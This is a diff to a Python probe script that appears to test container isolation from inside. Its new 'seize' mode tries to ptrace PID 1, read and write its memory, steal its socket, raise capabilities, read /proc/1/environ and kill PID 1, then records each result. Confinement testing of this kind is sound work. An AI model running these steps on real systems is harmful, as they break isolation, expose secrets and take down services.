@@ -5,20 +5,25 @@ It has what Docker gives every container: root, and raw sockets. Standard librar
 
 from __future__ import annotations
 
+import ctypes
+import errno
 import json
 import os
+import signal
 import socket
 import struct
 import sys
 import time
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
 SECONDS = 1.0
 ARP, IPV4 = 0x0806, 0x0800
 SYN, SYN_ACK = 0x02, 0x12
+_PIDFD_OPEN, _PIDFD_GETFD = 434, 438  # the same on all machines
 PREFIX = "2001:db8::"
 CHANGE = b'{"ingress": {"loss": "99%"}}'
 FORWARDED = (
@@ -132,6 +137,62 @@ def control(port: str) -> dict[str, Any]:
             return {"mark": marked, "door": str(error)}
 
 
+def seize() -> dict[str, Any]:
+    """From inside: look into PID 1, the one process that may change the network, trace it, end it, and be like it.
+
+    Each attempt by name, and what came of it.
+    """
+    libc = ctypes.CDLL(None, use_errno=True)
+    vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(16)), 16)
+    there = (ctypes.c_size_t * 2)(0x400000, 16)
+    pidfd = libc.syscall(_PIDFD_OPEN, 1, 0)
+    wanted = struct.pack("6I", 1 << 12, 1 << 12, 1 << 12, 0, 0, 0)
+    attempts: dict[str, Callable[[], Any]] = {
+        "attach": lambda: libc.ptrace(16, 1, None, None),
+        "seize": lambda: libc.ptrace(0x4206, 1, None, None),
+        "read memory": lambda: libc.process_vm_readv(1, vector, 1, there, 1, 0),
+        "write memory": lambda: libc.process_vm_writev(1, vector, 1, there, 1, 0),
+        "take a socket": lambda: libc.syscall(_PIDFD_GETFD, pidfd, 3, 0),
+        "take the capability": lambda: libc.capset(struct.pack("Ii", 0x20080522, 0), wanted),
+        "raise it for programs": lambda: libc.prctl(47, 2, 12, 0, 0),
+        "mark": _marked,
+        "change an address": _readdressed,
+        "capture": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close(),
+        **{f"open {name}": Path(f"/proc/1/{name}").read_bytes for name in ("mem", "environ", "maps", "fd/0", "ns/net")},
+    }
+    told = {name: _outcome(attempt) for name, attempt in attempts.items()}
+    for number in (signal.SIGKILL, signal.SIGSTOP):
+        with suppress(OSError):
+            os.kill(1, number)
+    time.sleep(0.2)
+    state = Path("/proc/1/stat").read_text().rpartition(")")[2].split()[0]
+    return {"uid": os.getuid(), "attempts": told, "state": state}
+
+
+def _outcome(attempt: Callable[[], Any]) -> str:
+    ctypes.set_errno(0)
+    try:
+        result = attempt()
+    except OSError as error:
+        return errno.errorcode[error.errno or 0]
+    return errno.errorcode[ctypes.get_errno()] if isinstance(result, int) and result < 0 else "done"
+
+
+def _marked() -> None:
+    with socket.socket() as marked:
+        marked.setsockopt(socket.SOL_SOCKET, 36, 1)
+
+
+def _readdressed() -> None:
+    """Take an address of this container for lo, by netlink."""
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as kernel:
+        address = struct.pack("BBBBi", socket.AF_INET, 32, 0, 0, 1) + struct.pack("HH4s", 8, 2, b"\x0a\x01\x02\x03")
+        kernel.send(struct.pack("IHHII", 16 + len(address), 20, 0x605, 1, 0) + address)
+        code = struct.unpack_from("i", kernel.recv(4096), 16)[0]
+    if code:
+        raise OSError(-code, os.strerror(-code))
+
+
 def overwrite(*folders: str) -> dict[str, Any]:
     """As root, put other code in the place of all Python code there."""
     files = [file for folder in folders for file in Path(folder).rglob("*.py*") if file.is_file()]
@@ -213,6 +274,7 @@ MODES: dict[str, Callable[..., dict[str, Any]]] = {
     "advertise": advertise,
     "redirect": redirect,
     "control": control,
+    "seize": seize,
     "overwrite": overwrite,
 }
 
